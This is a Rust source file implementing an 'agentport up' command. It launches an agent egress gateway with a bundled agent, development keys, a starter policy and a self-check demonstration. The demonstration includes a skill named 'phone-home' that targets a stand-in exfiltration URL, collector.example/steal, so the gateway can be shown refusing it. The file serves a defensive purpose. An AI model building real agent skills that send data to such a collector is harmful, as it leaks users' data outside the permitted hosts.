//! `agentport up`: gateway and bundled agent together, with development keys,
//! shown at work. Everything it makes lies in one state folder.

use std::net::{SocketAddr, TcpListener as StdListener};
use std::os::unix::fs::{DirBuilderExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{ExitCode, Stdio};
use std::time::Duration;

use anyhow::{Context, bail};
use clap::Args;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UnixStream};
use tokio::process::{Child, Command};

use crate::config::{Config, Override, Purpose, Sources};
use crate::egress::AgentId;
use crate::server::Gateway;

use super::serve::{install_provider, runtime, start_logging, stop_signal};
use super::token::{Wanted, issue_token};
use super::{give, keys};

/// How long a development token lives.
const TOKEN_LIFETIME: Duration = Duration::from_secs(12 * 3600);
/// The agent's name in the demonstration.
const AGENT: &str = "openclaw";
/// The name of whoever uses curl.
const CLIENT: &str = "bot-01";

#[derive(Args)]
pub(super) struct UpArgs {
    /// The folder for keys, policy, records and sockets
    #[arg(long, value_name = "FOLDER", default_value = ".agentport")]
    state: PathBuf,
    /// Where agents come in [default: 127.0.0.1:8080, or a free port where that is taken]
    #[arg(long, value_name = "ADDRESS", value_parser = super::address)]
    listen: Option<SocketAddr>,
    /// Metrics, health and readiness [default: 127.0.0.1:9090, or a free port]
    #[arg(long, value_name = "ADDRESS", value_parser = super::address)]
    admin: Option<SocketAddr>,
    /// Show it at work and stop, instead of staying up
    #[arg(long)]
    once: bool,
}

/// The policy that a first start writes; the user's to change.
const FIRST_POLICY: &str = r#"# What your agents may reach. Change it while the gateway runs: a saved file is
# in force within a second. Check it first: agentport policy check FILE
version: 1
rules:
  # The bundled agent's own API, reached through the gateway.
  - name: openclaw-api
    action: allow
    agents: any
    hosts: ["openclaw.agent"]

  # - name: openai
  #   action: allow
  #   agents: ["bot-*"]
  #   hosts: ["api.openai.com"]
  #   ports: [443]
"#;

pub(super) fn up(args: &UpArgs) -> anyhow::Result<ExitCode> {
    let state = State::prepare(&args.state)?;
    let egress = choose(args.listen, 8080)?;
    let admin = choose(args.admin, 9090)?;
    let config = state.config(egress, admin)?;
    start_logging(&config)?;
    install_provider();
    runtime(&config)?.block_on(together(args, state, config))
}

async fn together(args: &UpArgs, state: State, config: Config) -> anyhow::Result<ExitCode> {
    let stop = stop_signal()?;
    let origin = TcpListener::bind("127.0.0.1:0")
        .await
        .context("cannot start the loopback origin")?;
    let origin_address = origin.local_addr()?;
    state.write_demo(origin_address)?;
    state.write_token(&token(&config, AGENT)?)?;
    let client_token = token(&config, CLIENT)?;

    let gateway = Gateway::bind(config).await?;
    let addresses = gateway.addresses();
    let egress = *addresses.egress.first().context("no egress listener")?;
    let serving_origin = tokio::spawn(serve_origin(origin));
    let mut agent = state.start_agent(egress)?;
    let (ended, end) = tokio::sync::oneshot::channel::<()>();
    let running = tokio::spawn(gateway.run(async move {
        // Gone or told: either way it is over.
        let _ = end.await;
    }));

    let shown = match state.agent_is_up(&mut agent).await {
        Ok(()) => {
            show(
                egress,
                addresses.admin,
                origin_address,
                &client_token,
                &state,
            )
            .await
        }
        Err(error) => Err(error),
    };
    if shown.is_ok() && !args.once {
        tokio::select! {
            () = stop => {}
            status = agent.wait() => {
                super::say(&format!("the agent has ended by itself ({}): stopping", status?));
            }
        }
    }
    terminate(&mut agent).await;
    drop(ended);
    serving_origin.abort();
    running.await.context("the gateway's task failed")??;
    shown?;
    Ok(ExitCode::SUCCESS)
}

fn token(config: &Config, agent: &str) -> anyhow::Result<String> {
    issue_token(
        config,
        Wanted {
            agent: AgentId::parse(agent)?,
            tenant: None,
            destinations: None,
            lifetime: TOKEN_LIFETIME,
            audience: None,
            scope: None,
            actors: Vec::new(),
        },
    )
}

/// The address that was asked for, or the usual port, or a free one.
fn choose(asked: Option<SocketAddr>, usual: u16) -> anyhow::Result<SocketAddr> {
    if let Some(asked) = asked {
        return Ok(asked);
    }
    let usual = SocketAddr::from(([127, 0, 0, 1], usual));
    match StdListener::bind(usual) {
        Ok(_) => Ok(usual),
        Err(_) => Ok(SocketAddr::from(([127, 0, 0, 1], 0))),
    }
}

/// The state folder.
struct State {
    folder: PathBuf,
}

impl State {
    fn prepare(folder: &Path) -> anyhow::Result<Self> {
        let make = |path: &Path| {
            std::fs::DirBuilder::new()
                .recursive(true)
                .mode(0o700)
                .create(path)
                .with_context(|| format!("cannot make {}", path.display()))
        };
        make(folder)?;
        // It may have been there with other permissions.
        std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0o700))?;
        make(&folder.join("policies"))?;
        let state = Self {
            folder: std::path::absolute(folder)?,
        };
        let key = state.file("signing-key.pem");
        if !key.exists() {
            keys::generate(&key)?;
        }
        let policy = state.file("policies/policy.yaml");
        if !policy.exists() {
            write_private(&policy, FIRST_POLICY)?;
        }
        Ok(state)
    }

    fn file(&self, name: &str) -> PathBuf {
        self.folder.join(name)
    }

    fn config(&self, egress: SocketAddr, admin: SocketAddr) -> anyhow::Result<Config> {
        let shown = |name: &str| self.file(name).display().to_string();
        let flags = [
            ("listen.egress", egress.to_string()),
            ("listen.admin", admin.to_string()),
            ("policy", shown("policies")),
            ("identity.signing_key", shown("signing-key.pem")),
            ("audit.path", shown("audit.jsonl")),
            ("agent.upstream", format!("unix:{}", shown("openclaw.sock"))),
            ("log.level", "warn".to_owned()),
        ];
        let flags = flags.map(|(key, value)| Override {
            flag: "agentport up".into(),
            key: key.into(),
            value,
        });
        let sources = Sources {
            file: None,
            environment: Vec::new(),
            flags: flags.into(),
        };
        Config::load(&sources, Purpose::Serve).map_err(|errors| {
            let list = errors
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("\n  ");
            anyhow::anyhow!("the development configuration is not valid:\n  {list}")
        })
    }

    /// The rule and the skills of the demonstration, new with every start: the
    /// origin's port is another one each time.
    fn write_demo(&self, origin: SocketAddr) -> anyhow::Result<()> {
        let policy = format!(
            "# Written by `agentport up` at every start: the loopback origin of the demonstration.\n\
             version: 1\nrules:\n  - name: demo-origin\n    action: allow\n    agents: any\n    \
             hosts: [\"{ip}\"]\n    addresses: [\"{ip}/32\"]\n    ports: [{port}]\n",
            ip = origin.ip(),
            port = origin.port()
        );
        write_private(&self.file("policies/demo.yaml"), &policy)?;
        let skill = |id: &str, url: &str, what: &str| {
            serde_json::json!({
                "id": id, "version": "1.0.0", "description": what, "inputs": {}, "outputs": {},
                "runtime": { "type": "http", "method": "GET", "url": url },
            })
        };
        let manifest = serde_json::json!({ "skills": [
            skill("greet", &format!("http://{origin}/hello"), "Fetches a greeting from the loopback origin"),
            skill("phone-home", "http://collector.example/steal", "Tries to reach a host that no rule allows"),
        ]});
        write_private(&self.file("manifest.json"), &format!("{manifest:#}\n"))
    }

    fn write_token(&self, token: &str) -> anyhow::Result<()> {
        write_private(&self.file("openclaw.token"), token)
    }

    fn start_agent(&self, gateway: SocketAddr) -> anyhow::Result<Child> {
        let log = std::fs::OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(true)
            .mode(0o600)
            .open(self.file("openclaw.log"))
            .context("cannot write the agent's log")?;
        let program = std::env::current_exe().context("cannot find this program")?;
        let mut command = Command::new(program);
        command
            .args(["openclaw", "run", "--listen"])
            .arg(format!("unix:{}", self.file("openclaw.sock").display()))
            .arg("--manifest")
            .arg(self.file("manifest.json"))
            .env("AGENTPORT_URL", format!("http://{gateway}"))
            .env("AGENTPORT_TOKEN_FILE", self.file("openclaw.token"))
            .env_remove("AGENTPORT_TOKEN")
            .stdin(Stdio::null())
            .stdout(log.try_clone()?)
            .stderr(log)
            .kill_on_drop(true);
        command.spawn().context("cannot start the agent")
    }

    /// Waits until the agent answers, or has ended.
    async fn agent_is_up(&self, agent: &mut Child) -> anyhow::Result<()> {
        let socket = self.file("openclaw.sock");
        let answers = async {
            while UnixStream::connect(&socket).await.is_err() {
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        };
        tokio::select! {
            () = answers => Ok(()),
            status = agent.wait() => bail!("the agent ended at once ({}): see {}", status?, self.file("openclaw.log").display()),
            () = tokio::time::sleep(Duration::from_secs(20)) => bail!("the agent does not answer: see {}", self.file("openclaw.log").display()),
        }
    }
}

fn write_private(path: &Path, text: &str) -> anyhow::Result<()> {
    use std::io::Write;
    let beside = path.with_extension("new");
    let write = || -> std::io::Result<()> {
        let mut file = std::fs::OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(true)
            .mode(0o600)
            .open(&beside)?;
        file.write_all(text.as_bytes())?;
        std::fs::rename(&beside, path)
    };
    write().with_context(|| format!("cannot write {}", path.display()))
}

/// An origin that needs no internet.
async fn serve_origin(listener: TcpListener) {
    const BODY: &str = "{\"greeting\":\"hello from the loopback origin\"}\n";
    while let Ok((mut stream, _)) = listener.accept().await {
        tokio::spawn(async move {
            let mut seen = Vec::new();
            let mut chunk = [0; 4096];
            while !seen.windows(4).any(|window| window == b"\r\n\r\n") && seen.len() < 65_536 {
                match stream.read(&mut chunk).await {
                    Ok(0) | Err(_) => return,
                    Ok(count) => seen.extend_from_slice(&chunk[..count]),
                }
            }
            let answer = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{BODY}",
                BODY.len()
            );
            let _ = stream.write_all(answer.as_bytes()).await;
            let _ = stream.shutdown().await;
        });
    }
}

/// Makes the calls, and says what to do next.
async fn show(
    egress: SocketAddr,
    admin: Option<SocketAddr>,
    origin: SocketAddr,
    token: &str,
    state: &State,
) -> anyhow::Result<()> {
    let invoke = |skill: &str| {
        let body = r#"{"input":{}}"#;
        format!(
            "POST /v1/skills/{skill}/invoke HTTP/1.1\r\nHost: {egress}\r\nAuthorization: Bearer {token}\r\n\
             Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
    };
    let (allowed, allowed_body) = exchange(egress, &invoke("greet")).await?;
    let (refused, refused_body) = exchange(egress, &invoke("phone-home")).await?;
    let proxied = format!(
        "GET http://{origin}/hello HTTP/1.1\r\nHost: {origin}\r\nProxy-Authorization: Bearer {token}\r\nConnection: close\r\n\r\n"
    );
    let (direct, _) = exchange(egress, &proxied).await?;
    if allowed != 200 || direct != 200 || refused == 200 {
        bail!(
            "the demonstration went wrong: allowed call {allowed}, refused call {refused}, proxied call {direct}: see {}",
            state.folder.display()
        );
    }
    let admin = admin.map_or_else(String::new, |admin| {
        format!("\n  metrics     http://{admin}/metrics")
    });
    let files = state.folder.display();
    // Started by cargo it is in no PATH.
    let program = std::env::current_exe().context("cannot find this program")?;
    let program = program.display();
    give(&format!(
        "AgentPort is up.

  gateway     http://{egress}
  agent       http://{egress}/v1/skills (through the gateway, with a token){admin}
  policy      {files}/policies/policy.yaml (save it, and it is in force)
  records     {files}/audit.jsonl

An allowed call: the agent's skill `greet` fetched http://{origin}/hello through the gateway
  {allowed} {}
A refused call: its skill `phone-home` tried http://collector.example/steal
  {refused} {}
Point your programs at it (the token lives for {} hours):

  export TOKEN={token}
  curl -x http://{CLIENT}:$TOKEN@{egress} http://{origin}/hello
  HTTP_PROXY=http://{CLIENT}:$TOKEN@{egress} NO_PROXY= python3 -c 'import urllib.request as u; print(u.urlopen(\"http://{origin}/hello\").read())'
  # Node from 24, or 22.21: an older one does not go through any proxy by itself
  NODE_USE_ENV_PROXY=1 HTTP_PROXY=http://{CLIENT}:$TOKEN@{egress} NO_PROXY= node -e 'fetch(\"http://{origin}/hello\").then(r => r.text()).then(console.log)'
  AGENTPORT_URL=http://{egress} AGENTPORT_TOKEN=$TOKEN {program} run -- YOUR-AGENT

",
        allowed_body.trim(),
        refused_body.trim(),
        TOKEN_LIFETIME.as_secs() / 3600,
    ));
    Ok(())
}

/// One request on a connection of its own: the status and the body.
async fn exchange(gateway: SocketAddr, request: &str) -> anyhow::Result<(u16, String)> {
    const MOST: u64 = 1024 * 1024;
    let talk = async {
        let mut stream = TcpStream::connect(gateway).await?;
        stream.write_all(request.as_bytes()).await?;
        let mut answer = Vec::new();
        stream.take(MOST).read_to_end(&mut answer).await?;
        Ok::<_, std::io::Error>(answer)
    };
    let answer = tokio::time::timeout(Duration::from_secs(30), talk)
        .await
        .context("the gateway does not answer")??;
    let answer = String::from_utf8_lossy(&answer);
    let (head, body) = answer
        .split_once("\r\n\r\n")
        .context("the answer is not HTTP")?;
    let status = head
        .split(' ')
        .nth(1)
        .and_then(|status| status.parse().ok())
        .context("the answer has no status")?;
    Ok((status, body.to_owned()))
}

async fn terminate(agent: &mut Child) {
    if let Some(pid) = agent.id().and_then(|id| i32::try_from(id).ok()) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(pid),
            nix::sys::signal::Signal::SIGTERM,
        );
    }
    if tokio::time::timeout(Duration::from_secs(10), agent.wait())
        .await
        .is_err()
    {
        let _ = agent.kill().await;
    }
}
